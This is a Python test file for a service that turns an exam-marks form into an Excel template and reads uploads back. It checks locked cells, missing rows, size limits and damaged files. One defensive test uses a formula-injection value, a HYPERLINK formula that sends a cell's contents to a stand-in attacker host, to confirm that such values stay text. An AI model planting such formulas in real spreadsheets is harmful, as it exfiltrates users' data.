"""A list form as a sheet: drawn from its JSON Schema and hints, read back with every problem placed."""
from __future__ import annotations

import io
import random
import re
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import forms
from engine.policy import FormHints
from engine.sheets import WrongSheet, sheet_form
from engine.errors import Invalid
from engine.sheets.form_sheet import MAX_PART, MAX_ROWS, SheetTooLarge, problems_of, read, template

HINTS = FormHints({"marks": [{"candidate_code": "TS01"}, {"candidate_code": "TS02"}]},
                  fixed={"marks": ["candidate_code"]}, notes={"marks": ["Nguyễn Văn An", "Trần Thị Bình"]},
                  note_headers={"marks": "Full name"})
IDENTITY = {"task": "t-1", "case": "7", "form": "exam_written_marks"}


def marks_form():  # type: ignore[no-untyped-def]
    return sheet_form(forms.json_schema("exam_written_marks"), HINTS)


def filled(tmp_path: Path, values: dict[str, object], identity=IDENTITY) -> Path:  # type: ignore[no-untyped-def]
    book = load_workbook(io.BytesIO(template(marks_form(), identity, "vi", "Họ và tên")))
    ws = book.worksheets[0]
    for row in range(2, ws.max_row + 1):
        if ws.cell(row=row, column=1).value in values:
            ws.cell(row=row, column=3).value = values[ws.cell(row=row, column=1).value]
    path = tmp_path / "upload"  # kept uploads have no extension
    book.save(path)
    return path


def test_only_a_form_that_is_one_list_of_rows_is_a_sheet():
    assert [f.key for f in marks_form().fields] == ["candidate_code", "mark"]
    assert sheet_form(forms.json_schema("exam_plan"), FormHints()) is None  # a plan is more than its council list


def test_a_filled_template_reads_back_as_the_forms_data(tmp_path):
    data, numbers, problems = read(filled(tmp_path, {"TS01": 80, "TS02": "70,5"}), marks_form(), IDENTITY, "vi")
    assert data == {"marks": [{"candidate_code": "TS01", "mark": 80}, {"candidate_code": "TS02", "mark": "70.5"}]}
    assert (numbers, problems) == ([2, 3], [])
    assert forms.load("exam_written_marks", data)["marks"][1]["mark"] == 70.5


def test_a_changed_locked_cell_and_a_missing_row_are_placed_on_their_rows(tmp_path):
    path = filled(tmp_path, {"TS01": 80})
    book = load_workbook(io.BytesIO(path.read_bytes()))
    book.worksheets[0]["A3"] = "TS99"
    book.save(path)
    _, _, problems = read(path, marks_form(), IDENTITY, "en")
    assert [(p.row, p.column) for p in problems] == [(3, "Candidate code"), (3, "Candidate code")]
    assert "TS99" in problems[0].messages[0] and "TS02" in problems[1].messages[0]
    # each also says what it is, for a page to word in its reader's language
    assert [(p.code, p.params) for p in problems] == [("not_in_template", {"values": "TS99"}),
                                                      ("missing_row", {"values": "TS02", "row": 3})]
    assert problems[1].as_dict()["code"] == "missing_row"


def test_form_messages_by_index_become_rows_and_column_headers():
    problems = problems_of({"marks": {1: {"mark": ["Not a valid number."]}}, "note": ["too long"]}, marks_form(),
                           [2, 5], "vi")
    assert [(p.row, p.column, p.field, p.messages) for p in problems] == [
        (5, "Điểm", "mark", ["Not a valid number."]), (None, None, "note", ["too long"])]


def test_the_template_of_another_task_or_a_plain_workbook_is_refused(tmp_path):
    path = filled(tmp_path, {"TS01": 80}, identity={**IDENTITY, "task": "t-2"})
    with pytest.raises(WrongSheet, match="another task"):
        read(path, marks_form(), IDENTITY, "vi")
    plain = tmp_path / "plain"
    book = load_workbook(io.BytesIO(path.read_bytes()))
    del book["talentflow"]
    book.save(plain)
    with pytest.raises(WrongSheet, match="not a talentflow template"):
        read(plain, marks_form(), IDENTITY, "vi")


def test_a_note_or_locked_value_that_reads_like_a_formula_stays_text_in_the_template(tmp_path):
    trap = '=HYPERLINK("http://evil.example/?"&B3,"x")'
    hints = FormHints({"marks": [{"candidate_code": "=TS01"}]}, fixed={"marks": ["candidate_code"]},
                      notes={"marks": [trap]}, note_headers={"marks": "Full name"})
    form = sheet_form(forms.json_schema("exam_written_marks"), hints)
    ws = load_workbook(io.BytesIO(template(form, IDENTITY, "vi", "Họ và tên"))).worksheets[0]
    assert [(c.value, c.data_type) for c in ws[2][:2]] == [("=TS01", "s"), (trap, "s")]
    path = tmp_path / "upload"
    path.write_bytes(template(form, IDENTITY, "vi", "Họ và tên"))
    data, _, problems = read(path, form, IDENTITY, "vi")  # the locked value reads back as the template had it
    assert (data, problems) == ({"marks": [{"candidate_code": "=TS01"}]}, [])


def with_part(source: Path, target: Path, name: str, content: bytes) -> Path:
    """``source``'s package with the part ``name`` replaced by ``content``."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info.filename, content if info.filename == name else old.read(info))
    return target


def test_a_worksheet_too_large_to_read_is_refused_before_it_is_parsed(tmp_path):
    path = filled(tmp_path, {"TS01": 80})
    # 11 MB of digits: it compresses only about 2.4 times, so no zip-bomb check stops it; and it is
    # no XML at all, so only a refusal before any parsing can answer "too large"
    noise = "".join(random.Random(13).choices("0123456789", k=MAX_PART + 1024 * 1024)).encode()
    bomb = with_part(path, tmp_path / "bomb", "xl/worksheets/sheet1.xml", noise)
    started = time.monotonic()
    with pytest.raises(SheetTooLarge, match="MB unpacked") as refused:
        read(bomb, marks_form(), IDENTITY, "vi")
    assert refused.value.code == "sheet_too_large" and refused.value.status == 422
    assert time.monotonic() - started < 2


def test_a_sheet_with_more_rows_than_allowed_is_refused_and_blank_rows_after_do_not_count(tmp_path):
    form = sheet_form(forms.json_schema("exam_written_marks"), FormHints())
    book = load_workbook(io.BytesIO(template(form, IDENTITY, "vi", "Ghi chú")))
    ws = book.worksheets[0]
    for r in range(2, MAX_ROWS + 3):  # one row more than allowed
        ws.cell(row=r, column=1, value=f"TS{r}")
    path = tmp_path / "upload"
    book.save(path)
    with pytest.raises(SheetTooLarge, match=f"more than {MAX_ROWS} rows"):
        read(path, form, IDENTITY, "vi")
    ws.cell(row=MAX_ROWS + 2, column=1).value = None  # emptied: a blank row after the last
    book.save(path)
    data, numbers, _ = read(path, form, IDENTITY, "vi")
    assert len(data["marks"]) == MAX_ROWS and numbers[-1] == MAX_ROWS + 1


def test_a_far_row_number_is_not_walked_to(tmp_path):
    path = filled(tmp_path, {"TS01": 80})
    with zipfile.ZipFile(path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    far = sheet.replace("</sheetData>", '<row r="999999999"><c r="A999999999" t="inlineStr"><is><t>TS01</t></is>'
                                        '</c></row></sheetData>')
    far = re.sub(r"<dimension [^>]*/>", "", far)  # no declared size to go by
    assert "<dimension" not in far
    started = time.monotonic()
    data, numbers, _ = read(with_part(path, tmp_path / "far", "xl/worksheets/sheet1.xml", far.encode()),
                            marks_form(), IDENTITY, "vi")
    assert numbers == [2, 3] and time.monotonic() - started < 2


def test_a_workbook_with_only_the_templates_record_is_the_wrong_sheet(tmp_path):
    path = filled(tmp_path, {"TS01": 80})
    book = load_workbook(io.BytesIO(path.read_bytes()))
    del book[book.sheetnames[0]]
    book["talentflow"].sheet_state = "visible"  # a workbook must show a sheet to be saved
    book.save(path)
    with pytest.raises(WrongSheet, match="no sheet to fill in"):
        read(path, marks_form(), IDENTITY, "vi")


def test_a_damaged_workbook_is_unreadable_not_an_error_of_the_service(tmp_path):
    path = filled(tmp_path, {"TS01": 80})
    broken = with_part(path, tmp_path / "broken", "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row")
    with pytest.raises(Invalid) as refused:
        read(broken, marks_form(), IDENTITY, "vi")
    assert refused.value.code == "unreadable_sheet"
